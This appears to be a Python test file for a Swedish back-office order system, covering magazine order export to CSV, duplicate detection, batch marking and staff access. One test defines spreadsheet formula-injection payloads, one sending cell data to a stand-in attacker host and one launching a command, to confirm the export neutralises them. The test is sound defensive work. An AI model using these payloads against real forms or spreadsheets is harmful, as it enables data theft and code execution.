"""Magazine orders in the back office: the coordinator's list, duplicates, the CSV and batches."""

from __future__ import annotations

import csv
import io

from intake.models import MagazineOrder

from tests.support.intake_helpers import ORDER, hidden_fields, make_staff, staff_login, submit


def staff_client(app, role, *municipalities):
    client = app.test_client()
    assert staff_login(client, make_staff(app, f"{role}@staff.example", role, municipalities)).status_code == 303
    return client


def test_export_the_unsent_orders_and_mark_them_sent(app, client, rows):
    submit(client, "/bestall-magasinet/", ORDER)
    submit(
        client,
        "/bestall-magasinet/",
        {**ORDER, "name": "Åsa Öberg", "street": "Ängsvägen 3", "postal_code": "84050", "city": "Gällö", "email": ""},
    )
    submit(client, "/bestall-magasinet/", {**ORDER, "street": "Annan gata 9", "email": "bo@example.com"})  # same person
    submit(client, "/bestall-magasinet/", {**ORDER, "street": "Robotvägen 1", "website": "x"})  # quarantine
    coordinator = staff_client(app, "coordinator")
    page = coordinator.get("/crm/orders/").get_data(as_text=True)
    assert "3 beställningar väntar på att skickas" in page
    assert page.count("Möjlig dubblett") == 2
    export = coordinator.get("/crm/orders/export.csv")
    assert export.mimetype == "text/csv"
    lines = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff"))))
    assert lines[0] == ["name", "address_line_1", "address_line_2", "postal_code", "city", "country"]
    assert ["Åsa Öberg", "Ängsvägen 3", "", "840 50", "Gällö", "Sverige"] in lines
    assert len(lines) == 4 and not any("Robotvägen" in line for line in lines)
    # A new order arrives after the export: marking the batch leaves it for next time.
    submit(client, "/bestall-magasinet/", {**ORDER, "street": "Sen gata 1", "postal_code": "83132"})
    token = hidden_fields(page)["csrf_token"]
    ids = [line for line in page.split('name="order" value="')[1:]]
    exported = [i.split('"')[0] for i in ids]
    assert coordinator.post("/crm/orders/sent/", data={"csrf_token": token, "order": exported}).status_code == 303
    sent = [o for o in rows(MagazineOrder) if o.sent_at is not None]
    assert len(sent) == 3
    after = coordinator.get("/crm/orders/").get_data(as_text=True)
    assert "1 beställning väntar på att skickas" in after
    assert '<p class="saved" role="status">Sparat.</p>' in after  # the change answered, once
    assert "Sparat." not in coordinator.get("/crm/orders/").get_data(as_text=True)


def test_only_the_coordinator_sees_orders(app, client):
    guide = staff_client(app, "guide", "are")
    for path in ("/crm/orders/", "/crm/orders/export.csv"):
        assert guide.get(path).status_code == 404
    assert guide.post("/crm/orders/sent/", data={"order": ["1"]}).status_code == 404


# What a stranger can type into the public order form so that a spreadsheet runs it.
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
    "street": "+46 Storgatan 1",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_the_mailing_house_csv_neutralises_formulas_typed_into_the_form(app, client):
    assert submit(client, "/bestall-magasinet/", {**ORDER, **FORMULAS}).status_code == 303
    assert (
        submit(client, "/bestall-magasinet/", {**ORDER, "name": "-Åsa Öberg", "street": "Ängsvägen 3"}).status_code
        == 303
    )
    assert (
        submit(client, "/bestall-magasinet/", {**ORDER, "name": "Cecilia Ek", "street": "Backen 2"}).status_code == 303
    )
    coordinator = staff_client(app, "coordinator")
    export = coordinator.get("/crm/orders/export.csv").get_data(as_text=True).lstrip("\ufeff")
    lines = list(csv.reader(io.StringIO(export)))
    assert ["'" + FORMULAS["name"], "'" + FORMULAS["street"], "", "831 31", "'" + FORMULAS["city"], "Sverige"] in lines
    assert ["'-Åsa Öberg", "Ängsvägen 3", "", "831 31", "Östersund", "Sverige"] in lines
    assert ["Cecilia Ek", "Backen 2", "", "831 31", "Östersund", "Sverige"] in lines  # the rest as typed
